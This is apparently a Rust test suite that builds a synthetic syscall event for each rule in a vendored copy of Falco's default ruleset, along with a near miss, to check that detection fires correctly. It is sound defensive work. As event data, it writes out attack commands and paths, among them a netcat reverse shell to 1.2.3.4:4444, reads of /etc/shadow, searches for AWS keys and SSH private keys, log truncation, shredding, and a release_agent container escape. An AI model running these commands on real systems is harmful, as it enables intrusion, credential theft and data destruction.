//! Each rule of Falco's default ruleset (`tests/compat/falco_rules.yaml`,
//! vendored in the repository) fires on an event built to match it, and
//! stays silent on a near miss that differs in the one detail the rule is
//! about.
//!
//! One test per rule, named after it, so a failure names the rule; and one
//! test that the rules with a case are exactly the rules of the file, so a
//! rule added upstream without a case, or a case left for a rule that is
//! gone, fails rather than passing unnoticed.

use std::collections::BTreeSet;
use std::net::IpAddr;
use std::path::PathBuf;

use evaluate::check::catalog::Registry;
use evaluate::compile::{compile_with, NoNames, Resolve};
use evaluate::eval::CompiledRuleset;
use evaluate::fields::sample::{self, Addr, Ancestor, Container, Event, Fd, Param, Thread};
use evaluate::loader;
use schema::kestrel_capnp::{FdType, L4Proto};
use schema::Kind;

const NOW: u64 = 1_700_000_000_000_000_000;
const SECOND: u64 = 1_000_000_000;
const CAP_SYS_MODULE: u64 = 1 << 16;
const CAP_SYS_ADMIN: u64 = 1 << 21;
const O_WRONLY: u64 = 1;
const O_TRUNC: u64 = 0o1000;
const O_APPEND: u64 = 0o2000;

/// Stands in for cluster DNS: the API server's service name resolves to its
/// ClusterIP, as it would inside a pod.
struct ClusterDns;

impl Resolve for ClusterDns {
    fn resolve(&self, name: &str) -> Vec<IpAddr> {
        match name {
            "kubernetes.default.svc.cluster.local" => vec![[10, 96, 0, 1].into()],
            _ => Vec::new(),
        }
    }
}

struct Compat {
    names: Vec<String>,
    rules: CompiledRuleset,
}

/// The repository's copy of Falco's default ruleset.
fn corpus() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../tests/compat/falco_rules.yaml")
}

fn load() -> Compat {
    let path = corpus();
    assert!(path.exists(), "compat corpus missing at {}", path.display());
    let loaded = loader::load_paths(&[path], &Registry)
        .unwrap_or_else(|d| panic!("falco_rules.yaml failed to load:\n{d}"));
    let mut names = Vec::new();
    let mut compiled = Vec::new();
    for (i, r) in loaded.rules.iter().enumerate() {
        let c = compile_with(&r.condition, &NoNames, &ClusterDns).unwrap_or_else(|e| {
            panic!(
                "rule `{}` does not compile: {e} (in {:?})",
                r.name, e.macros
            )
        });
        assert!(
            !c.kinds.is_empty(),
            "rule `{}` matches no event type",
            r.name
        );
        names.push(r.name.clone());
        compiled.push((i, c));
    }
    Compat {
        names,
        rules: CompiledRuleset::new(compiled),
    }
}

impl Compat {
    fn fired(&self, ev: &Event) -> Vec<String> {
        sample::with_view(ev, 1, |v| {
            self.rules
                .evaluate(v)
                .map(|i| self.names[i].clone())
                .collect()
        })
    }

    fn check(&self, rule: &str, hit: &Event, miss: &Event) {
        assert!(
            self.names.iter().any(|n| n == rule),
            "no rule named `{rule}`"
        );
        let fired = self.fired(hit);
        assert!(
            fired.iter().any(|n| n == rule),
            "`{rule}` did not fire on its event; fired: {fired:?}\n{hit:#?}"
        );
        let fired = self.fired(miss);
        assert!(
            !fired.iter().any(|n| n == rule),
            "`{rule}` fired on its near miss\n{miss:#?}"
        );
    }
}

fn thread(name: &str, exepath: &str, args: &[&str], parents: &[&str]) -> Thread {
    Thread {
        tid: 4242,
        pid: 4242,
        vpid: 42,
        name: name.into(),
        exe: exepath.into(),
        exepath: exepath.into(),
        args: args.iter().map(|a| a.to_string()).collect(),
        cwd: "/root".into(),
        loginuid: u32::MAX,
        start_ts: NOW - 60 * SECOND,
        ancestors: parents
            .iter()
            .enumerate()
            .map(|(i, p)| Ancestor {
                pid: 4000 - i as i32,
                name: p.to_string(),
                exe: p.to_string(),
                exepath: format!("/usr/bin/{p}"),
                args: vec![],
            })
            .collect(),
        ..Thread::default()
    }
}

fn host() -> Container {
    Container {
        id: "host".into(),
        name: "host".into(),
        ..Container::default()
    }
}

fn alpine() -> Container {
    Container {
        id: "0123456789ab".into(),
        name: "web".into(),
        image_repository: "docker.io/library/alpine".into(),
        image_tag: "3.20".into(),
        start_ts: NOW - 3600 * SECOND,
        ..Container::default()
    }
}

fn base(kind: Kind, t: Thread) -> Event {
    Event {
        kind,
        ts: NOW,
        ret: 0,
        params: Vec::new(),
        thread: Some(t),
        fd: None,
        user: Some((0, "root".into())),
        login_user: None,
        group: Some((0, "root".into())),
        container: Some(host()),
        k8s: None,
    }
}

fn exec(t: Thread) -> Event {
    let path = t.exepath.clone();
    Event {
        params: vec![Param::Bytes(path.into_bytes())],
        ..base(Kind::Execve, t)
    }
}

fn in_container(mut e: Event) -> Event {
    e.container = Some(alpine());
    e
}

fn open(t: Thread, path: &str, raw: &str, flags: u64) -> Event {
    Event {
        ret: 3,
        params: vec![
            Param::Int(-100),
            Param::Bytes(path.as_bytes().to_vec()),
            Param::Uint(flags),
            Param::Uint(0),
            Param::Uint(0),
            Param::Uint(0),
        ],
        fd: Some(Fd {
            num: 3,
            ty: FdType::File,
            name: path.into(),
            name_raw: raw.into(),
            name_changed: true,
            ..Fd::default()
        }),
        ..base(Kind::Openat, t)
    }
}

fn connect(t: Thread, server: [u8; 4], port: u16) -> Event {
    Event {
        params: vec![Param::Int(3), Param::Addr(Addr::v4(server, port))],
        fd: Some(Fd {
            num: 3,
            ty: FdType::Ipv4,
            name: format!(
                "192.168.1.5:40000->{}.{}.{}.{}:{port}",
                server[0], server[1], server[2], server[3]
            ),
            l4proto: L4Proto::Tcp,
            local: Addr::v4([192, 168, 1, 5], 40000),
            remote: Addr::v4(server, port),
            connected: true,
            name_changed: true,
            ..Fd::default()
        }),
        ..base(Kind::Connect, t)
    }
}

fn with<T>(mut e: Event, f: impl FnOnce(&mut Event) -> T) -> Event {
    f(&mut e);
    e
}

fn th(e: &mut Event) -> &mut Thread {
    e.thread.as_mut().expect("events here have a thread")
}

/// Defines one `#[test]` per rule, and [`CASES`], the rules that have one:
/// both come from the same list, so a rule cannot be counted as covered
/// without its test. Each case is a block giving the event the rule must
/// fire on and its near miss.
macro_rules! compat_cases {
    ($($test:ident: $rule:literal => $case:block)*) => {
        /// The rules with a case, as written below.
        const CASES: &[&str] = &[$($rule),*];

        $(
            #[test]
            fn $test() {
                let (hit, miss): (Event, Event) = $case;
                load().check($rule, &hit, &miss);
            }
        )*
    };
}

fn cat() -> Thread {
    thread(
        "cat",
        "/usr/bin/cat",
        &["/etc/passwd"],
        &["nginx", "systemd"],
    )
}

fn ptrace(req: u64) -> Event {
    Event {
        params: vec![Param::Uint(req), Param::Int(1)],
        ..base(
            Kind::Ptrace,
            thread("gdb", "/usr/bin/gdb", &["-p", "1"], &["bash"]),
        )
    }
}

compat_cases! {
    directory_traversal_monitored_file_read: "Directory traversal monitored file read" => {
        let trav = open(cat(), "/etc/passwd", "/var/www/html/../../../etc/passwd", 0);
        let miss = with(trav.clone(), |e| {
            if let Some(fd) = e.fd.as_mut() {
                fd.name_raw = "/etc/passwd".into()
            }
        });
        (trav, miss)
    }

    read_sensitive_file_trusted_after_startup: "Read sensitive file trusted after startup" => {
        let nginx = open(
            thread("nginx", "/usr/sbin/nginx", &[], &["systemd"]),
            "/etc/shadow",
            "",
            0,
        );
        let miss = with(nginx.clone(), |e| th(e).start_ts = NOW - SECOND);
        (nginx, miss)
    }

    read_sensitive_file_untrusted: "Read sensitive file untrusted" => {
        let evil = open(
            thread("evil", "/tmp/evil", &[], &["bash"]),
            "/etc/shadow",
            "",
            0,
        );
        let miss = with(evil.clone(), |e| th(e).name = "sshd".into());
        (evil, miss)
    }

    run_shell_untrusted: "Run shell untrusted" => {
        let shell = exec(thread(
            "bash",
            "/bin/bash",
            &["-c", "id"],
            &["nginx", "systemd"],
        ));
        let miss = with(shell.clone(), |e| {
            th(e)
                .ancestors
                .iter_mut()
                .for_each(|a| a.name = "sshd".into())
        });
        (shell, miss)
    }

    system_user_interactive: "System user interactive" => {
        let sysuser = with(
            exec(thread("bash", "/bin/bash", &[], &["bash", "sshd"])),
            |e| e.user = Some((33, "www-data".into())),
        );
        let miss = with(sysuser.clone(), |e| e.user = Some((1000, "alice".into())));
        (sysuser, miss)
    }

    terminal_shell_in_container: "Terminal shell in container" => {
        let tty = in_container(with(exec(thread("bash", "/bin/bash", &[], &[])), |e| {
            th(e).tty = 34816
        }));
        let miss = with(tty.clone(), |e| th(e).tty = 0);
        (tty, miss)
    }

    contact_k8s_api_server_from_container: "Contact K8S API Server From Container" => {
        let curl = || thread("curl", "/usr/bin/curl", &[], &["bash"]);
        (
            in_container(connect(curl(), [10, 96, 0, 1], 443)),
            in_container(connect(curl(), [8, 8, 8, 8], 443)),
        )
    }

    netcat_remote_code_execution_in_container: "Netcat Remote Code Execution in Container" => {
        let nc = in_container(exec(thread(
            "nc",
            "/usr/bin/nc",
            &["-e", "/bin/sh", "1.2.3.4", "4444"],
            &["bash"],
        )));
        let miss = with(nc.clone(), |e| {
            th(e).args = vec!["-l".into(), "4444".into()]
        });
        (nc, miss)
    }

    search_private_keys_or_passwords: "Search Private Keys or Passwords" => {
        let find = exec(thread(
            "find",
            "/usr/bin/find",
            &["/", "-name", "id_rsa"],
            &["bash"],
        ));
        let miss = with(find.clone(), |e| {
            th(e).args = vec!["/".into(), "-name".into(), "*.txt".into()]
        });
        (find, miss)
    }

    clear_log_activities: "Clear Log Activities" => {
        let trunc = open(
            thread("bash", "/bin/bash", &[], &["sshd"]),
            "/var/log/syslog",
            "",
            O_WRONLY | O_TRUNC,
        );
        let miss = with(trunc.clone(), |e| {
            e.params[2] = Param::Uint(O_WRONLY | O_APPEND)
        });
        (trunc, miss)
    }

    remove_bulk_data_from_disk: "Remove Bulk Data from Disk" => {
        let shred = exec(thread(
            "shred",
            "/usr/bin/shred",
            &["-u", "/data/db"],
            &["bash"],
        ));
        let miss = with(shred.clone(), |e| th(e).name = "rm".into());
        (shred, miss)
    }

    create_symlink_over_sensitive_files: "Create Symlink Over Sensitive Files" => {
        let symlink = Event {
            params: vec![
                Param::Bytes(b"/etc/shadow".to_vec()),
                Param::Int(-100),
                Param::Bytes(b"/tmp/s".to_vec()),
            ],
            ..base(
                Kind::Symlinkat,
                thread("ln", "/usr/bin/ln", &["-s"], &["bash"]),
            )
        };
        let miss = with(symlink.clone(), |e| {
            e.params[0] = Param::Bytes(b"/etc/hosts".to_vec())
        });
        (symlink, miss)
    }

    create_hardlink_over_sensitive_files: "Create Hardlink Over Sensitive Files" => {
        let link = Event {
            params: vec![
                Param::Int(-100),
                Param::Bytes(b"/etc/shadow".to_vec()),
                Param::Int(-100),
                Param::Bytes(b"/tmp/h".to_vec()),
                Param::Uint(0),
            ],
            ..base(Kind::Linkat, thread("ln", "/usr/bin/ln", &[], &["bash"]))
        };
        let miss = with(link.clone(), |e| {
            e.params[1] = Param::Bytes(b"/etc/hosts".to_vec())
        });
        (link, miss)
    }

    packet_socket_created_in_container: "Packet socket created in container" => {
        let packet = in_container(Event {
            ret: 3,
            params: vec![Param::Uint(17), Param::Uint(3), Param::Uint(768)],
            ..base(
                Kind::Socket,
                thread("tcpdump", "/usr/bin/tcpdump", &[], &["bash"]),
            )
        });
        let miss = with(packet.clone(), |e| e.params[0] = Param::Uint(2));
        (packet, miss)
    }

    redirect_stdout_stdin_to_network_connection_in_container: "Redirect STDOUT/STDIN to Network Connection in Container" => {
        let dup = in_container(Event {
            ret: 1,
            params: vec![Param::Int(3), Param::Int(1)],
            fd: Some(Fd {
                num: 3,
                ty: FdType::Ipv4,
                l4proto: L4Proto::Tcp,
                local: Addr::v4([172, 17, 0, 2], 40000),
                remote: Addr::v4([1, 2, 3, 4], 4444),
                ..Fd::default()
            }),
            ..base(Kind::Dup2, thread("bash", "/bin/bash", &[], &["python3"]))
        });
        let miss = with(dup.clone(), |e| e.ret = 5);
        (dup, miss)
    }

    linux_kernel_module_injection_detected: "Linux Kernel Module Injection Detected" => {
        let module = in_container(with(
            Event {
                params: vec![Param::Int(3), Param::Bytes(Vec::new()), Param::Uint(0)],
                ..base(
                    Kind::FinitModule,
                    thread("insmod", "/sbin/insmod", &["evil.ko"], &["bash"]),
                )
            },
            |e| th(e).cap_effective = CAP_SYS_MODULE,
        ));
        let miss = with(module.clone(), |e| th(e).cap_effective = CAP_SYS_ADMIN);
        (module, miss)
    }

    debugfs_launched_in_privileged_container: "Debugfs Launched in Privileged Container" => {
        let privileged = |on: bool| {
            move |e: &mut Event| {
                if let Some(c) = e.container.as_mut() {
                    c.privileged = on
                }
            }
        };
        let debugfs = with(
            in_container(exec(thread(
                "debugfs",
                "/sbin/debugfs",
                &["/dev/sda1"],
                &["bash"],
            ))),
            privileged(true),
        );
        let miss = with(debugfs.clone(), privileged(false));
        (debugfs, miss)
    }

    detect_release_agent_file_container_escapes: "Detect release_agent File Container Escapes" => {
        let agent = in_container(with(
            open(
                thread("sh", "/bin/sh", &[], &["bash"]),
                "/sys/fs/cgroup/rdma/x/release_agent",
                "",
                O_WRONLY,
            ),
            |e| th(e).cap_effective = CAP_SYS_ADMIN,
        ));
        let miss = with(agent.clone(), |e| th(e).cap_effective = 0);
        (agent, miss)
    }

    ptrace_attached_to_process: "PTRACE attached to process" => {
        (ptrace(16), ptrace(2))
    }

    ptrace_anti_debug_attempt: "PTRACE anti-debug attempt" => {
        (ptrace(0), ptrace(16))
    }

    find_aws_credentials: "Find AWS Credentials" => {
        let aws = exec(thread(
            "grep",
            "/usr/bin/grep",
            &["-r", "aws_secret_access_key", "/home"],
            &["bash"],
        ));
        let miss = with(aws.clone(), |e| {
            th(e).args = vec!["-r".into(), "hello".into()]
        });
        (aws, miss)
    }

    execution_from_dev_shm: "Execution from /dev/shm" => {
        let shm = exec(thread("x", "/dev/shm/x", &[], &["bash"]));
        let miss = with(shm.clone(), |e| th(e).exe = "/usr/bin/x".into());
        (shm, miss)
    }

    drop_and_execute_new_binary_in_container: "Drop and execute new binary in container" => {
        let drop = in_container(with(
            exec(thread("miner", "/tmp/miner", &[], &["sh"])),
            |e| th(e).exe_upper_layer = true,
        ));
        let miss = with(drop.clone(), |e| th(e).exe_upper_layer = false);
        (drop, miss)
    }

    disallowed_ssh_connection_non_standard_port: "Disallowed SSH Connection Non Standard Port" => {
        (
            connect(
                thread("ssh", "/usr/bin/ssh", &["-p", "443", "attacker"], &["bash"]),
                [1, 2, 3, 4],
                443,
            ),
            connect(
                thread("ssh", "/usr/bin/ssh", &["attacker"], &["bash"]),
                [1, 2, 3, 4],
                22,
            ),
        )
    }

    fileless_execution_via_memfd_create: "Fileless execution via memfd_create" => {
        let memfd = with(exec(thread("evil", "memfd:x", &[], &["bash"])), |e| {
            th(e).exe_from_memfd = true
        });
        let miss = with(memfd.clone(), |e| th(e).exe_from_memfd = false);
        (memfd, miss)
    }
}

/// The rules with a case are exactly the rules of the corpus: compared by
/// name, so a rule renamed, added or dropped upstream shows here by name.
#[test]
fn every_compat_rule_has_a_case() {
    let compat = load();
    let loaded: BTreeSet<&str> = compat.names.iter().map(String::as_str).collect();
    assert_eq!(loaded.len(), compat.names.len(), "two rules share a name");
    let cased: BTreeSet<&str> = CASES.iter().copied().collect();
    assert_eq!(cased.len(), CASES.len(), "a rule has more than one case");
    let missing: Vec<_> = loaded.difference(&cased).collect();
    let stale: Vec<_> = cased.difference(&loaded).collect();
    assert!(
        missing.is_empty() && stale.is_empty(),
        "rules without a case: {missing:?}; cases for no rule: {stale:?}"
    );
}
